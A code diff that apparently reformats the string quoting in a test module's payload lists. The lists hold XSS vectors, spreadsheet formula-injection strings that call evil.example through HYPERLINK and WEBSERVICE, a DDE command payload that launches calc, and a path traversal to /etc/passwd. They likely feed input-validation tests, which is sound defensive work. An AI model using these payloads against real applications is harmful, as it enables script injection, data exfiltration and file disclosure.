@@ -32,7 +32,7 @@ XSS = (
     f"<base {MARK} href={FOREIGN}/>",
     f"<meta {MARK} http-equiv=refresh content='0;url={FOREIGN}'>",
     f"<img {MARK} src={FOREIGN}/p.png>",
-    f"\" {MARK} onmouseover={RUN} x=\"",
+    f'" {MARK} onmouseover={RUN} x="',
     f"' {MARK} onmouseover={RUN} x='",
     f"` {MARK} onmouseover={RUN} x=`",
     f"--><img {MARK} src=x onerror={RUN}>",
@@ -91,12 +91,12 @@ SQL = (
 )
 FORMULA = (
     "=1+1",
-    "=HYPERLINK(\"http://evil.example\",\"点\")",
+    '=HYPERLINK("http://evil.example","点")',
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)",
     "＝1+1",
-    "=WEBSERVICE(\"http://evil.example\")",
+    '=WEBSERVICE("http://evil.example")',
 )
 PATH = (
     "../../../../etc/passwd",
